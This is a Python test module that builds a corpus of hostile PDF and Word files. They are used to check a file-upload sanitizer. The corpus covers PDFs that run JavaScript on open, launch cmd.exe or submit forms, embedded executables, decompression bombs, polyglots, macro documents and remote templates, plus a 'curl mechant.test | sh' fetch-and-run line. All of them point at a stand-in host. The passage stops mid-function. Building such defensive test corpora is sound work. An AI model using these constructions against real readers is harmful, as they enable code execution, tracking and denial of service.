"""Files that somebody could send with bad intentions, or with bad luck: each made here, byte by byte, the same each time.

What acts in them names the host of ``MARK``: it may appear in nothing that is kept.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from PIL import Image

from core.files import refusals

MARK = b"mechant.test"
WORDS = "Bonjour du Saguenay"


@dataclass(frozen=True)
class Sent:
    """A file of the corpus. ``refused`` is the refusal it must meet; None: it comes out, with nothing in it that acts."""

    name: str
    build: Callable[[], bytes]
    refused: type[refusals.FileRefused] | None

    def content(self) -> bytes:
        return self.build()


PDFS: dict[str, Sent] = {}
DOCUMENTS: dict[str, Sent] = {}
PORTRAITS: dict[str, Sent] = {}
Builder = Callable[[], bytes]


def sent(
    shelf: dict[str, Sent], refused: type[refusals.FileRefused] | None = None
) -> Callable[[Callable[[], bytes]], Builder]:
    def keep(build: Callable[[], bytes]) -> Builder:
        name = build.__name__
        assert name not in shelf
        shelf[name] = Sent(name, build, refused)
        return build

    return keep


# ====================================================================== PDF
def stream(data: bytes, said: str = "", *, pack: bool = False) -> bytes:
    if pack:
        data, said = zlib.compress(data), f"{said} /Filter /FlateDecode"
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (said.encode(), len(data), data)


DRAWN = f"BT /F1 12 Tf 20 100 Td ({WORDS}) Tj ET".encode()
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def pdf(
    catalog: str = "",
    page: str = "",
    *more: bytes,
    content: bytes | None = None,
    resources: str = "/Font << /F1 5 0 R >>",
    box: str = "[0 0 300 200]",
    kids: str = "[3 0 R]",
    count: int = 1,
    trailer: str = "",
) -> bytes:
    """One page; ``more`` are objects 6, 7, …"""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        f"<< /Type /Pages /Kids {kids} /Count {count} >>".encode(),
        f"<< /Type /Page /Parent 2 0 R /MediaBox {box} /Resources << {resources} >> /Contents 4 0 R {page} >>".encode(),
        stream(DRAWN) if content is None else content,
        FONT,
        *more,
    ]
    return assembled(objects, trailer)


def assembled(objects: list[bytes], trailer: str = "") -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer.encode(),
        start,
    )
    return bytes(out)


SCRIPT = "<< /S /JavaScript /JS (app.launchURL\\('http://mechant.test/'\\)) >>"
ADDRESS = "<< /S /URI /URI (http://mechant.test/) >>"


def annotation(said: str, *more: bytes, catalog: str = "") -> bytes:
    return pdf(catalog, f"/Annots [<< /Type /Annot /Rect [10 10 90 90] {said} >>]", *more)


@sent(PDFS)
def script_as_it_opens() -> bytes:
    return pdf(f"/OpenAction {SCRIPT}")


@sent(PDFS)
def script_in_the_name_tree() -> bytes:
    return pdf(f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>")


@sent(PDFS)
def script_as_it_closes() -> bytes:
    return pdf(f"/AA << /WC {SCRIPT} /WP {SCRIPT} >>")


@sent(PDFS)
def script_of_a_page() -> bytes:
    return pdf("", f"/AA << /O {SCRIPT} /C {SCRIPT} >>")


@sent(PDFS)
def script_under_a_name_in_disguise() -> bytes:
    return pdf("/OpenAction << /S /J#61v#61Script /J#53 (app.alert\\('mechant.test'\\)) >>")


@sent(PDFS)
def key_in_disguise() -> bytes:
    return pdf(f"/Open#41ction {SCRIPT} /#41#41 << /WC {SCRIPT} >>")


@sent(PDFS)
def script_in_a_stream() -> bytes:
    return pdf(
        "/OpenAction << /S /JavaScript /JS 6 0 R >>", "", stream(b"app.launchURL('http://mechant.test/')", pack=True)
    )


@sent(PDFS)
def script_in_a_bookmark() -> bytes:
    return pdf(
        "/Outlines 6 0 R",
        "",
        b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
        f"<< /Title (Ici) /Parent 6 0 R /A {SCRIPT} >>".encode(),
    )


@sent(PDFS)
def script_in_an_object_stream() -> bytes:
    inner = [
        (1, f"<< /Type /Catalog /Pages 2 0 R /OpenAction {SCRIPT} >>".encode()),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (
            3,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        ),
        (5, FONT),
    ]
    heads, bodies = [], b""
    for number, body in inner:
        heads.append(b"%d %d" % (number, len(bodies)))
        bodies += body + b"\n"
    head = b" ".join(heads) + b" "
    out = bytearray(b"%PDF-1.5\n")
    places = {}
    for number, body in (
        (4, stream(DRAWN)),
        (6, stream(head + bodies, f"/Type /ObjStm /N {len(inner)} /First {len(head)}", pack=True)),
    ):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    places[7] = len(out)
    compressed = {number: index for index, (number, _body) in enumerate(inner)}
    table = b""
    for number in range(8):
        if number in compressed:
            table += struct.pack(">BIH", 2, 6, compressed[number])
        else:
            table += struct.pack(">BIH", int(number in places), places.get(number, 0), 0)
    out += b"7 0 obj\n%s\nendobj\n" % stream(table, "/Type /XRef /Size 8 /Root 1 0 R /W [1 4 2]", pack=True)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % places[7])


@sent(PDFS)
def program_as_it_opens() -> bytes:
    return pdf("/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c start http://mechant.test) >> >>")


@sent(PDFS)
def form_that_sends_itself() -> bytes:
    return annotation(
        "/Subtype /Widget /FT /Btn /T (a) /A << /S /SubmitForm /F << /FS /URL /F (http://mechant.test) >> >>",
        catalog="/AcroForm << /Fields [] >>",
    )


@sent(PDFS)
def form_with_scripts_in_its_fields() -> bytes:
    return annotation(
        f"/Subtype /Widget /FT /Tx /T (a) /V (mechant.test) /AA << /K {SCRIPT} /F {SCRIPT} /C {SCRIPT} >>",
        catalog=f"/AcroForm << /Fields [] /CO [] /DR << >> >> /OpenAction {SCRIPT}",
    )


@sent(PDFS)
def form_that_reads_a_file() -> bytes:
    return annotation("/Subtype /Widget /FT /Btn /T (a) /A << /S /ImportData /F (\\\\\\\\mechant.test\\\\a.fdf) >>")


@sent(PDFS)
def form_of_xml() -> bytes:
    return pdf(
        "/AcroForm << /Fields [] /XFA 6 0 R >>",
        "",
        stream(
            b"<xdp><script contentType='application/x-javascript'>xfa.host.gotoURL('http://mechant.test')</script></xdp>"
        ),
    )


@sent(PDFS)
def link_to_a_site() -> bytes:
    return annotation(f"/Subtype /Link /A {ADDRESS}")


@sent(PDFS)
def link_that_runs_a_script() -> bytes:
    return annotation("/Subtype /Link /A << /S /URI /URI (javascript:fetch\\('//mechant.test'\\)) >>")


@sent(PDFS)
def link_to_another_document() -> bytes:
    return annotation("/Subtype /Link /A << /S /GoToR /F (\\\\\\\\mechant.test\\\\a.pdf) /D [0 /Fit] >>")


@sent(PDFS)
def link_into_an_embedded_document() -> bytes:
    return annotation("/Subtype /Link /A << /S /GoToE /T << /R /C /N (mechant.test) >> /D [0 /Fit] >>")


@sent(PDFS)
def chain_of_actions() -> bytes:
    return annotation(f"/Subtype /Link /A << /S /Named /N /Print /Next [{SCRIPT} {ADDRESS}] >>")


ATTACHED = "<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 6 0 R >> >>"


@sent(PDFS)
def attached_program() -> bytes:
    return pdf(
        f"/Names << /EmbeddedFiles << /Names [(a.exe) {ATTACHED}] >> >>",
        "",
        stream(b"MZ mechant.test", "/Type /EmbeddedFile"),
    )


@sent(PDFS)
def attached_to_a_pin() -> bytes:
    return annotation(f"/Subtype /FileAttachment /FS {ATTACHED}", stream(b"MZ mechant.test", "/Type /EmbeddedFile"))


@sent(PDFS)
def associated_file() -> bytes:
    return pdf(f"/AF [{ATTACHED}]", f"/AF [{ATTACHED}]", stream(b"MZ mechant.test", "/Type /EmbeddedFile"))


@sent(PDFS)
def collection_of_files() -> bytes:
    return pdf(
        f"/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(a) {ATTACHED}] >> >>",
        "",
        stream(b"mechant.test", "/Type /EmbeddedFile"),
    )


@sent(PDFS)
def flash() -> bytes:
    return annotation(
        "/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a) 6 0 R] >> >> /RichMediaSettings << >>",
        stream(b"FWS mechant.test", "/Type /EmbeddedFile"),
    )


@sent(PDFS)
def three_dimensions() -> bytes:
    return annotation(
        "/Subtype /3D /3DD 6 0 R /3DA << /A /PO >>",
        stream(b"U3D", "/Type /3D /Subtype /U3D /OnInstantiate 7 0 R"),
        stream(b"host.app.launchURL('http://mechant.test')"),
    )


@sent(PDFS)
def film() -> bytes:
    return annotation("/Subtype /Movie /Movie << /F (http://mechant.test/a.avi) >> /A true")


@sent(PDFS)
def sound() -> bytes:
    return annotation(
        "/Subtype /Sound /Sound 6 0 R /A << /S /Sound /Sound 6 0 R >>", stream(b"mechant.test", "/Type /Sound /R 8000")
    )


@sent(PDFS)
def rendition() -> bytes:
    return annotation(
        "/Subtype /Screen /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (http://mechant.test) >> >>"
        " /JS (app.alert\\(1\\)) >>"
    )


@sent(PDFS)
def appearance_with_a_script() -> bytes:
    return annotation(
        f"/Subtype /Stamp /AP << /N 6 0 R >> /A {SCRIPT}",
        stream(b"0 0 20 20 re f", "/Type /XObject /Subtype /Form /BBox [0 0 20 20] /PieceInfo << /M (mechant.test) >>"),
    )


@sent(PDFS)
def metadata_with_a_script() -> bytes:
    return pdf(
        "/Metadata 6 0 R",
        "/Metadata 6 0 R",
        stream(b"<x:xmpmeta><script src='http://mechant.test'/></x:xmpmeta>", "/Type /Metadata /Subtype /XML"),
        trailer="/Info << /Title (<script src=//mechant.test>) /Author (mechant.test) >>",
    )


@sent(PDFS)
def notes_of_an_application() -> bytes:
    return pdf("/PieceInfo << /A << /Private (mechant.test) >> >>", "/PieceInfo << /A << /Private (mechant.test) >> >>")


@sent(PDFS)
def layers_that_change() -> bytes:
    return pdf(
        "/OCProperties << /OCGs [6 0 R] /D << /AS [<< /Event /View /OCGs [6 0 R] /Category [/View] >>] >> >>",
        "",
        b"<< /Type /OCG /Name (mechant.test) >>",
        content=stream(b"/OC /A BDC " + DRAWN + b" EMC"),
        resources="/Font << /F1 5 0 R >> /Properties << /A 6 0 R >>",
    )


@sent(PDFS)
def rights_and_signature() -> bytes:
    return pdf(
        "/Perms << /UR3 6 0 R >> /AcroForm << /SigFlags 3 /Fields [] >> /DSS << >> /Legal << /JavaScriptActions 1 >>",
        "",
        b"<< /Type /Sig /Filter /Adobe.PPKLite /Location (mechant.test) >>",
    )


@sent(PDFS)
def requirement_with_a_script() -> bytes:
    return pdf(
        f"/Requirements [<< /S /EnableJavaScripts /RH << /S /JS /Script {SCRIPT} >> >>] /URI << /Base (http://mechant.test) >>"
    )


@sent(PDFS)
def thumbnail_threads_and_web_capture() -> bytes:
    return pdf(
        "/Threads [<< /I << /Title (mechant.test) >> >>] /SpiderInfo << /V 1.0 >>",
        "/Thumb 6 0 R /B [] /PresSteps << >> /Trans << /S /Fly >> /Dur 1",
        stream(b"mechant.test", "/Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8"),
    )


@sent(PDFS)
def structure_with_a_script() -> bytes:
    return pdf(
        f"/StructTreeRoot << /Type /StructTreeRoot /K << /S /Link /A {SCRIPT} >> >> /MarkInfo << /Marked true >>"
    )


@sent(PDFS)
def added_in_a_second_saving() -> bytes:
    first = pdf()
    place = len(first)
    second = f"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction {SCRIPT} >>\nendobj\n".encode()
    start = place + len(second)
    return (
        first
        + second
        + b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (place, first.rindex(b"xref\n0"), start)
    )


@sent(PDFS)
def table_in_the_wrong_place() -> bytes:
    return pdf(f"/OpenAction {SCRIPT}").replace(b"startxref\n", b"startxref\n9")


@sent(PDFS)
def table_that_points_to_itself() -> bytes:
    plain = pdf(f"/OpenAction {SCRIPT}")
    return pdf(f"/OpenAction {SCRIPT}", trailer=f"/Prev {plain.rindex(b'xref' + bytes([10]) + b'0')}")


@sent(PDFS)
def drawing_in_postscript() -> bytes:
    return pdf(
        "",
        "",
        stream(b"(mechant.test) run", "/Type /XObject /Subtype /PS"),
        content=stream(b"/X Do " + DRAWN),
        resources="/Font << /F1 5 0 R >> /XObject << /X 6 0 R >>",
    )


@sent(PDFS)
def drawing_from_elsewhere() -> bytes:
    return pdf(
        "",
        "",
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (http://mechant.test/a.pdf) /Page 0 >>"
        b" /OPI << /2.0 << /F (mechant.test) >> >> /Length 0 >>\nstream\n\nendstream",
        content=stream(b"/X Do " + DRAWN),
        resources="/Font << /F1 5 0 R >> /XObject << /X 6 0 R >>",
    )


@sent(PDFS)
def stream_of_another_file() -> bytes:
    return pdf(
        "",
        "",
        content=stream(DRAWN, "/F << /FS /URL /F (http://mechant.test/a) >> /FFilter /FlateDecode /FDecodeParms << >>"),
    )


@sent(PDFS)
def typeface_with_a_script_in_its_matrix() -> bytes:
    return pdf(
        "",
        "",
        content=stream(b"BT /F2 9 Tf (a) Tj ET " + DRAWN),
        resources="/Font << /F1 5 0 R /F2 << /Type /Font /Subtype /Type1 /BaseFont /Evil"
        " /FontMatrix [0.001 0 0 0.001 0 (1\\); fetch\\('//mechant.test'\\)//)] >> >>",
    )


@sent(PDFS)
def typeface_that_draws_itself() -> bytes:
    return pdf(
        "",
        "",
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9]"
        b" /Encoding << /Differences [97 /a] >> /CharProcs << /a 7 0 R >> /Resources << /Font << /F2 6 0 R >> >>"
        b" /A << /S /JavaScript /JS (mechant.test) >> >>",
        stream(b"9 0 d0 BT /F2 9 Tf (a) Tj ET"),
        content=stream(b"BT /F2 9 Tf (a) Tj ET " + DRAWN),
        resources="/Font << /F1 5 0 R /F2 6 0 R >>",
    )


@sent(PDFS)
def form_that_holds_itself() -> bytes:
    return pdf(
        "",
        "",
        stream(
            b"/X Do",
            f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> /A {SCRIPT}",
        ),
        resources="/Font << /F1 5 0 R >> /XObject << /X 6 0 R >>",
    )


@sent(PDFS)
def pdf_then_page_of_the_web() -> bytes:
    return pdf() + b"<html><script src='http://mechant.test'></script></html>"


@sent(PDFS)
def pdf_then_archive() -> bytes:
    return pdf() + archive({"META-INF/MANIFEST.MF": b"Main-Class: Mechant", "a.class": b"mechant.test"})


@sent(PDFS)
def web_page_in_a_comment() -> bytes:
    return pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%<script>fetch('//mechant.test')</script>", 1)


@sent(PDFS)
def page_that_goes_on_without_end() -> bytes:
    return pdf("", "", resources="", kids="[3 0 R]").replace(b"/Parent 2 0 R", b"/Parent 3 0 R")


# ---------------------------------------------------------------------- PDF: refused
@sent(PDFS, refusals.Locked)
def under_a_password() -> bytes:
    return encrypted("secret", "maitre")


@sent(PDFS, refusals.Locked)
def under_rights_only() -> bytes:
    return encrypted("", "maitre")


@cache
def encrypted(user: str, owner: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(user_password=user, owner_password=owner, algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@sent(PDFS, refusals.Locked)
def locked_in_a_way_nobody_knows() -> bytes:
    return pdf(trailer="/Encrypt << /Filter /Mechant /V 9 /R 9 >> /ID [(a) (a)]")


@sent(PDFS, refusals.Broken)
def cut_off() -> bytes:
    return pdf()[:120]


@sent(PDFS, refusals.Broken)
def header_alone() -> bytes:
    return b"%PDF-1.7\n"


@sent(PDFS, refusals.Broken)
def no_page() -> bytes:
    return pdf(kids="[]", count=0)


@sent(PDFS, refusals.Broken)
def tree_of_pages_that_is_a_ring() -> bytes:
    return pdf(kids="[2 0 R]")


@sent(PDFS, refusals.TooManyPages)
def ten_thousand_pages() -> bytes:
    kids = " ".join(f"{number} 0 R" for number in range(6, 10_006))
    return pdf(
        "",
        "",
        *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << >> >>"] * 10_000,
        kids=f"[{kids}]",
        count=10_000,
    )


@sent(PDFS, refusals.TooManyPages)
def one_page_too_many() -> bytes:
    return pdf(kids="[" + "3 0 R " * 21 + "]", count=21)


@sent(PDFS, refusals.Broken)
def page_the_size_of_a_town() -> bytes:
    return pdf(box="[0 0 9999999 9999999]")


@sent(PDFS, refusals.Broken)
def page_of_no_size() -> bytes:
    return pdf(box="[0 0 0 0]")


@cache
def zeros(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join([*(packer.compress(bytes(1_000_000)) for _each in range(megabytes)), packer.flush()])


@sent(PDFS, refusals.Broken)
def three_hundred_megabytes_in_a_drawing() -> bytes:
    return pdf(content=stream(zeros(300), "/Filter /FlateDecode"))


@sent(PDFS, refusals.Broken)
def packed_twice() -> bytes:
    return pdf(content=stream(zlib.compress(zeros(300)), "/Filter [/FlateDecode /FlateDecode]"))


@sent(PDFS, refusals.TooMuch)
def many_drawings_that_swell() -> bytes:
    return pdf(
        "", "", *[stream(zeros(60), "/Filter /FlateDecode")] * 4,
        resources="/Font << /F1 5 0 R >>",
    ).replace(b"/Contents 4 0 R", b"/Contents [6 0 R 7 0 R 8 0 R 9 0 R]")  # fmt: skip


@sent(PDFS, refusals.Broken)
def objects_that_swell() -> bytes:
    data = zeros(300)
    return (
        b"%PDF-1.5\n1 0 obj\n"
        + stream(data, "/Type /XRef /Size 8 /Root 1 0 R /W [1 4 2] /Filter /FlateDecode")
        + (b"\nendobj\nstartxref\n9\n%%EOF\n")
    )


@sent(PDFS, refusals.Broken)
def packed_fifty_times() -> bytes:
    return pdf(content=stream(b"x", f"/Filter [{'/FlateDecode ' * 50}]"))


@sent(PDFS, refusals.Broken)
def packed_in_an_unknown_way() -> bytes:
    return pdf(content=stream(DRAWN, "/Filter [/Crypt /FlateDecode]"))


@sent(PDFS)
def half_a_million_brackets() -> bytes:
    return pdf("", "", b"[" * 500_000, resources="/Font << /F1 5 0 R >> /ColorSpace << /A 6 0 R >>").replace(
        b"/Type /Catalog", b"/Type /Catalog /A 6 0 R"
    )


@sent(PDFS, refusals.TooMuch)
def forms_in_forms_in_forms() -> bytes:
    forms = [
        stream(b"/X Do", f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X {at} 0 R >> >>")
        for at in range(7, 207)
    ]
    return pdf("", "", *forms, resources="/XObject << /X 6 0 R >>")


@sent(PDFS, refusals.TooMuch)
def fifty_thousand_typefaces() -> bytes:
    fonts = " ".join(f"/A{at} << /Type /Font >>" for at in range(50_000))
    return pdf(resources=f"/Font << {fonts} >>")


def with_picture(said: str, data: bytes) -> bytes:
    return pdf(
        "",
        "",
        stream(data, f"/Type /XObject /Subtype /Image {said}"),
        content=stream(b"/X Do " + DRAWN),
        resources="/Font << /F1 5 0 R >> /XObject << /X 6 0 R >>",
    )


@sent(PDFS, refusals.UnreadablePicture)
def picture_of_a_broken_kind() -> bytes:
    return with_picture(
        "/Width 9 /Height 9 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode /DecodeParms << /JBIG2Globals 5 0 R >>",
        b"\x00" * 50,
    )


@sent(PDFS, refusals.UnreadablePicture)
def photograph_that_is_none() -> bytes:
    return with_picture(
        "/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode", b"\xff\xd8mechant.test"
    )


@sent(PDFS, refusals.UnreadablePicture)
def photograph_of_waves_that_is_none() -> bytes:
    return with_picture("/Width 9 /Height 9 /Filter /JPXDecode", b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\xff" * 80)


@sent(PDFS, refusals.LargePicture)
def picture_the_size_of_a_field() -> bytes:
    return with_picture(
        "/Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode", zeros(1)
    )


@sent(PDFS, refusals.LargePicture)
def photograph_larger_than_it_says() -> bytes:
    return with_picture(
        "/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode", wide_jpeg()
    )


@sent(PDFS, refusals.Broken)
def picture_in_the_drawing_packed_in_an_unknown_way() -> bytes:
    return pdf(content=stream(b"BI /W 9 /H 9 /CS /G /BPC 8 /F [/Crypt /JBIG2Decode] ID xxx EI " + DRAWN))


@sent(PDFS)
def photograph_with_a_page_behind_it() -> bytes:
    photo = jpeg_with_words() + b"<script>mechant.test</script>"
    return with_picture("/Width 24 /Height 24 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode", photo)


@sent(PDFS, refusals.WrongKind)
def web_page_before_the_header() -> bytes:
    return b"<html><script src='http://mechant.test'></script>\n" + pdf()


@sent(PDFS, refusals.WrongKind)
def picture_before_the_header() -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x00\x00\x00," + pdf()


@sent(PDFS, refusals.WrongKind)
def nothing() -> bytes:
    return b""


@sent(PDFS, refusals.WrongKind)
def web_page() -> bytes:
    return b"<!DOCTYPE html><html><script>fetch('//mechant.test')</script></html>"


@sent(PDFS, refusals.WrongKind)
def drawing_for_the_web() -> bytes:
    return b"<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(\"//mechant.test\")'/>"


@sent(PDFS, refusals.WrongKind)
def windows_program() -> bytes:
    return b"MZ\x90\x00" + bytes(200) + b"PE\x00\x00 mechant.test"


@sent(PDFS, refusals.WrongKind)
def unix_program() -> bytes:
    return b"\x7fELF" + bytes(200)


@sent(PDFS, refusals.WrongKind)
def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl mechant.test | sh\n"


@sent(PDFS, refusals.WrongKind)
def rich_text() -> bytes:
    return b"{\\rtf1 {\\field{\\*\\fldinst DDEAUTO mechant.test}}}"


@sent(PDFS, refusals.WrongKind)
def word_of_old() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "WordDocument".encode("utf-16-le")


@sent(PDFS, refusals.WrongKind)
def postscript() -> bytes:
    return b"%!PS-Adobe-3.0\n(mechant.test) run\n"


@sent(PDFS, refusals.WrongKind)
def text_of_no_format() -> bytes:
    return b"Mon parcours : dix ans en soudure."


@sent(PDFS, refusals.TooHeavy)
def over_five_megabytes() -> bytes:
    return pdf() + bytes(5 * 1024 * 1024)


# ====================================================================== DOCX
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SPACES = (
    f'xmlns:w="{W}" xmlns:r="{OFFICE}" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"'
    ' xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
    ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    ' xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
    ' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    ' xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"'
)
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml"
MAIN = f"{TYPE}.document.main+xml"


def archive(members: dict[str, bytes], *, stored: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as package:
        for name, data in members.items():
            member = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
            member.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
            package.writestr(member, data)
    return out.getvalue()


def paragraph(text: str = WORDS) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def body(inside: str) -> str:
    return f"{HEAD}<w:document {SPACES}><w:body>{paragraph()}{inside}<w:sectPr/></w:body></w:document>"


def relations(*lines: tuple[str, str, str] | tuple[str, str, str, str]) -> bytes:
    """Lines are (id, kind, target) or, for what is outside, (id, kind, target, "External")."""
    entries = "".join(
        f'<Relationship Id="{line[0]}" Type="{line[1] if "/" in line[1] else f"{OFFICE}/{line[1]}"}" Target="{line[2]}"'
        + (f' TargetMode="{line[3]}"/>' if len(line) == 4 else "/>")
        for line in lines
    )
    return f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{entries}</Relationships>'.encode()


def types(*overrides: tuple[str, str], main: str = MAIN) -> bytes:
    entries = "".join(f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in overrides)
    return (
        f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{entries}</Types>'
    ).encode()


def members(inside: str = "", *links: tuple[str, ...], main: str = MAIN, **parts: bytes) -> dict[str, bytes]:
    """Members of a small document. ``parts`` are named in the style ``word__header1_xml``."""
    named = {
        "[Content_Types].xml": types(main=main),
        "_rels/.rels": relations(("rId1", "officeDocument", "word/document.xml")),
    }
    named["word/document.xml"] = body(inside).encode()
    if links:
        named["word/_rels/document.xml.rels"] = relations(*links)  # type: ignore[arg-type]
    for name, data in parts.items():
        stem, _underscore, ending = name.replace("__", "/").rpartition("_")
        named[f"{stem}.{ending}"] = data
    return named


def docx(inside: str = "", *links: tuple[str, ...], main: str = MAIN, **parts: bytes) -> bytes:
    return archive(members(inside, *links, main=main, **parts))


def part(root: str, inside: str = "") -> bytes:
    return f"{HEAD}<w:{root} {SPACES}>{inside}</w:{root}>".encode()


def blip(attributes: str, more: str = "") -> str:
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="a"/><a:graphic><a:graphicData'
        ' uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="a">'
        f"{more}</pic:cNvPr></pic:nvPicPr><pic:blipFill><a:blip {attributes}/></pic:blipFill></pic:pic></a:graphicData>"
        "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def field(*pieces: str, result: str = "42") -> str:
    commands = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + commands
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


@cache
def png(side: int = 8) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (side, side), (10, 90, 120)).save(out, "PNG")
    return out.getvalue()


@sent(DOCUMENTS, refusals.Macros)
def macros_in_a_part() -> bytes:
    return docx("", ("rId1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
                word__vbaProject_bin=b"mechant.test")  # fmt: skip


@sent(DOCUMENTS, refusals.Macros)
def macros_by_type() -> bytes:
    return docx(main="application/vnd.ms-word.document.macroEnabled.main+xml")


@sent(DOCUMENTS, refusals.Macros)
def template_with_macros() -> bytes:
    return docx(main="application/vnd.ms-word.template.macroEnabledTemplate.main+xml")


@sent(DOCUMENTS, refusals.Macros)
def macros_under_another_name() -> bytes:
    parts = members(word__notes_bin=b"mechant.test")
    parts["[Content_Types].xml"] = types(("/word/notes.bin", "application/vnd.ms-office.vbaProject"))
    return archive(parts)


@sent(DOCUMENTS, refusals.Macros)
def control_that_runs() -> bytes:
    return docx('<w:p><w:r><w:object><w:control r:id="rId9"/></w:object></w:r></w:p>', ("rId9", "control", "activeX/activeX1.xml"),
                word__activeX__activeX1_xml=b"<a/>")  # fmt: skip


@sent(DOCUMENTS)
def template_from_elsewhere() -> bytes:
    return archive(
        {
            **members(
                "",
                ("rId1", "settings", "settings.xml"),
                word__settings_xml=part("settings", '<w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/>'),
            ),
            "word/_rels/settings.xml.rels": relations(
                ("rId1", "attachedTemplate", "http://mechant.test/a.dotm", "External")
            ),
        }
    )


@sent(DOCUMENTS)
def picture_from_elsewhere() -> bytes:
    return docx(blip('r:link="rId9"'), ("rId9", "image", "http://mechant.test/a.png", "External"))


@sent(DOCUMENTS)
def picture_from_elsewhere_in_disguise() -> bytes:
    return docx(blip('r:embed="rId9"'), ("rId9", "image", "http://mechant.test/a.png"))


@sent(DOCUMENTS)
def picture_on_another_machine() -> bytes:
    return docx(blip('r:embed="rId9"'), ("rId9", "image", "file://mechant.test/a.png", "External"))


@sent(DOCUMENTS)
def embedded_object() -> bytes:
    return docx(
